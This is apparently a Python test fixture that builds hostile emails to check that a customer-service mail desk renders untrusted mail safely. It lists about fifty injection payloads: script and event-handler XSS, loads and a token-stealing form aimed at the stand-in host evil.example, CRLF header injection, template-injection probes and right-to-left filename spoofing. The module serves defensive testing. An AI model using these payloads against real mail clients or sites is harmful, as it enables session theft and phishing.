"""Hostile mails: what a stranger could write to be run, fetched or misread by whoever looks at the mail's page.

    for mail in hostile_mails(500):
        desk.take_raw(mail.raw)

Every attack is put into every place in turn: subject, author's name, plain body, HTML body, names of files, header fields. The
same count makes the same mails.
"""

import base64
import itertools
import random
from collections.abc import Iterator
from dataclasses import dataclass
from email.header import Header

EVIL = "https://evil.example"
ATTACKS: tuple[tuple[str, str], ...] = (
    ("script", "<script>alert(1)</script>"),
    ("script of another", f'<script src="{EVIL}/x.js"></script>'),
    ("script that breaks out", '"></bdi></mark></div><script>alert(document.cookie)</script>'),
    ("script in a mark", "annuler</mark><script>alert(2)</script>"),
    ("cdata", "]]><![CDATA[<script>alert(3)</script>]]>"),
    ("comment", "--><script>alert(4)</script><!--"),
    ("title", "</title></head><script>alert(5)</script>"),
    ("textarea", "</textarea></pre><script>alert(6)</script>"),
    ("event", '<img src=x onerror="alert(7)">'),
    ("event of an attribute", '" onmouseover="alert(8)" autofocus onfocus="alert(9)'),
    ("event without quotes", "' onfocus=alert(10) autofocus x='"),
    ("details", "<details open ontoggle=alert(11)><summary>x</summary></details>"),
    ("svg", '<svg onload="alert(12)"><animate onbegin="alert(13)" attributeName="x"/></svg>'),
    ("svg use", f'<svg><use href="{EVIL}/a.svg#x"/><image href="{EVIL}/a.png"/></svg>'),
    ("math", '<math><mtext><table><mglyph><style><img src=x onerror="alert(14)">'),
    ("iframe", f'<iframe src="{EVIL}/frame" srcdoc="<script>alert(15)</script>"></iframe>'),
    ("object", f'<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e">'),
    ("image", f'<img src="{EVIL}/pixel.gif" width="1" height="1">'),
    ("link", f'<link rel="stylesheet" href="{EVIL}/a.css"><link rel="prefetch" href="{EVIL}/p">'),
    ("meta", f'<meta http-equiv="refresh" content="0;url={EVIL}/">'),
    ("base", f'<base href="{EVIL}/"><a href="x">x</a>'),
    ("form", f'<form action="{EVIL}/steal"><input name=token autofocus><button>ok</button></form>'),
    ("javascript link", '<a href="javascript:alert(16)">annuler</a> javascript:alert(17)'),
    ("data link", '<a href="data:text/html,<script>alert(18)</script>">voir</a>'),
    ("style", f"<style>*{{background:url({EVIL}/css)}} body{{display:none}}</style>"),
    ("style attribute", f'<p style="background:url({EVIL}/s);position:fixed;inset:0">x</p>'),
    ("import", f'<style>@import "{EVIL}/i.css"; @font-face{{font-family:x;src:url({EVIL}/f)}}</style>'),
    ("htmx", '<div hx-get="/sign-out" hx-trigger="load" data-hx-post="/mails/1/notes">x</div>'),
    ("live part", '<div id="live" data-live-part data-live="/live" data-watch="/cases/1/watch">x</div>'),
    ("clobbering", '<form id="find"><input name="main" id="keys"><a id="main"></a></form>'),
    ("braces", "{{ 7*7 }} {% for x in [1] %} ${7*7} #{7*7} <%= 7*7 %> {{ self.__init__.__globals__ }}"),
    ("format", "{0} {t} %s %(token)s {token.__class__}"),
    ("entities", "&lt;script&gt;alert(19)&lt;/script&gt; &#60;img src=x onerror=alert(20)&#62; &amp;lt;"),
    ("override", "\u202eannuler ma commande 4071852\u202c \u2066\u2067fiche.exe\u2069"),
    ("name reversed", "facture\u202efdp.exe"),
    ("open isolate", "\u2067\u2067\u2067 remboursez \u202e\u202d"),
    ("no width", "an\u200bnul\u2060er\ufeff ma com\u00admande 40\u200b71852"),
    ("homoglyphs", "Рaypаl Sеrvice cliеnt аnnuler"),
    ("combining", "a" + "\u0301" * 400),
    ("tags", "ok\U000e0061\U000e0062\U000e0063\U000e007f"),
    ("controls", "a\x01b\x07c\x08d\x0be\x0cf\x1bg[31m\x7fh\x9bi"),
    ("nul", "annuler\x00<script>alert(21)</script>"),
    ("separators", "un\u2028deux\u2029trois\u0085quatre"),
    ("long word", "A" * 5_000),
    ("long line of marks", "<" * 2_000 + "b" + ">" * 2_000),
    ("many numbers", " ".join(f"4{n:06d}" for n in range(400))),
    ("utf-7", "+ADw-script+AD4-alert(22)+ADw-/script+AD4-"),
    ("line ends", "a\r\nX-Injected: yes\r\n\r\n<script>alert(23)</script>"),
    ("emoji", "👩‍👩‍👧‍👦 annulez 🙏🏽 \U0001f1eb\U0001f1f7"),
    ("arabic", "السلام عليكم أريد إلغاء الطلب 4071852 من فضلكم"),
)  # fmt: skip
PLACES = ("subject", "name", "plain", "html", "file", "header", "quoted", "address", "bare html", "attached")
REQUEST = "Bonjour,\nMerci d'annuler ma commande 4071852."


@dataclass(frozen=True, slots=True, kw_only=True)
class HostileMail:
    """One mail, by which attack it is and where that stands."""

    attack: str
    place: str
    raw: bytes


def hostile_mails(count: int = 500) -> Iterator[HostileMail]:
    """Make mails: every attack in every place, in ever other orders of header and with other attacks beside it."""
    chance = random.Random(4)
    pairs = [(attack, place) for place in PLACES for attack in ATTACKS]
    for nth, ((name, words), place) in enumerate(itertools.islice(itertools.cycle(pairs), count)):
        beside = chance.choice(ATTACKS)[1]
        yield HostileMail(attack=name, place=place, raw=_mail(nth, words, place, beside, chance))


def _mail(nth: int, words: str, place: str, beside: str, chance: random.Random) -> bytes:
    subject = words if place == "subject" else chance.choice(("Annulation", beside))
    name = words if place == "name" else "Claire"
    address = f'"{_line(words)[:60]}"@orange.fr' if place == "address" else "claire.vasseur@orange.fr"
    fields = [
        f"From: {_encoded(name, chance)} <{address}>",
        f"Subject: {_encoded(subject, chance)}",
        "To: serviceclient@pictoonline.fr",
        f"Message-ID: <{nth}.hostile@orange.fr>",
        f"Date: Tue, 24 Nov 2026 09:{nth % 60:02d}:00 +0100",
        "MIME-Version: 1.0",
    ]  # fmt: skip
    if place == "header":
        fields += [f"X-Note: {_line(words)}", f"Reply-To: {_line(words)[:200]} <x@evil.example>", f"In-Reply-To: <{_line(words)[:80]}>"]  # fmt: skip
    chance.shuffle(fields)
    kind, body = _body(words, place, beside, nth)
    return "\r\n".join([*fields, kind, "", body]).encode("utf-8", "surrogatepass")


def _body(words: str, place: str, beside: str, nth: int) -> tuple[str, str]:
    edge = f"=_edge{nth}"
    plain = {"plain": f"{words}\n\n{REQUEST}\n{words}", "quoted": f"{REQUEST}\n\nLe 3 nov. 2026, Service a écrit :\n> {_line(words)}\n> {_line(beside)}"}.get(place, REQUEST)  # fmt: skip
    html = f"<html><body><p>{REQUEST}</p>{words if place in {'html', 'bare html'} else ''}<p>{beside}</p></body></html>"
    if place == "bare html":
        return "Content-Type: text/html; charset=utf-8", html
    parts = [f"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{_packed(plain)}"]
    if place == "html":
        parts = [f"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{_packed(html)}"]
    if place == "file":
        for name in (words, beside):
            shown = Header(_line(name)[:120], "utf-8", maxlinelen=10_000).encode()
            parts.append(
                f'Content-Type: text/html; name="{shown}"\r\nContent-Disposition: attachment; filename="{shown}"\r\n\r\n<script>alert(99)</script>'
            )
    if place == "attached":
        parts.append(
            f"Content-Type: message/rfc822\r\n\r\nSubject: {_line(words)[:200]}\r\nFrom: x@evil.example\r\n\r\n{words}"
        )
    joined = "".join(f"--{edge}\r\n{part}\r\n" for part in parts)
    return f'Content-Type: multipart/mixed; boundary="{edge}"', f"{joined}--{edge}--\r\n"


def _encoded(words: str, chance: random.Random) -> str:
    """Write words into a header field: as an encoded word, or bare as broken programs do."""
    if chance.random() < 0.5:
        return _line(words)
    return f"=?utf-8?b?{base64.b64encode(words[:1500].encode('utf-8', 'surrogatepass')).decode()}?="


def _line(words: str) -> str:
    return words.replace("\r\n", " ").replace("\r", " ").replace("\n", " ")


def _packed(words: str) -> str:
    return base64.encodebytes(words.encode("utf-8", "surrogatepass")).decode().replace("\n", "\r\n")
